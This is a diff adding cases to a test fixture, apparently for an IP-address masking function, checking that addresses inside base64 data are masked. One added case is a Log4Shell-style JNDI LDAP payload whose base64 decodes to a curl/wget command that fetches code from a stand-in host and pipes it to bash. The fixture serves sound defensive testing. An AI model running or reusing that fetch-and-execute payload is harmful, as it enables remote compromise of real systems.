@@ -88,6 +88,12 @@ FORMS = [
     ("caf&#233; &amp; co &#64257;", "caf&#233; &amp; co &#64257;"),  # no address: unchanged
     ("ip-203&hyphen;0&hyphen;113&hyphen;17.example", "ip-203.0.113.0/24.example"),
     ("\uff12\uff10\uff13\uff0e0\uff0e113\uff0e17", "203.0.113.0/24"),  # fullwidth digits and dots
+    # base64 payloads: decoded at each alignment, masked, encoded again (found by review)
+    (
+        "ldap://x/Basic/Command/Base64/KGN1cmwgLXMgMjAzLjAuMTEzLjc3OjU4NzR8fHdnZXQgLXEgLU8tIDIwMy4wLjExMy43Nyl8YmFzaA==",
+        "ldap://x/Basic/Command/Base64/KGN1cmwgLXMgMjAzLjAuMTEzLjAvMjQ6NTg3NHx8d2dldCAtcSAtTy0gMjAzLjAuMTEzLjAvMjQpfGJhc2g=",
+    ),
+    ("/cb?d=dG8gMjAwMTpkYjg6YWJjZDoxMjo6NyBvaw==", "/cb?d=dG8gMjAwMTpkYjg6YWJjZDo6LzQ4IG9r"),
     # reverse DNS names: the octets and nibbles reversed (the forward reading kept the host octet);
     # a zone no narrower than the mask stays (found by review)
     ("/p/77.113.0.203.in-addr.arpa", "/p/203.0.113.0/24.in-addr.arpa"),
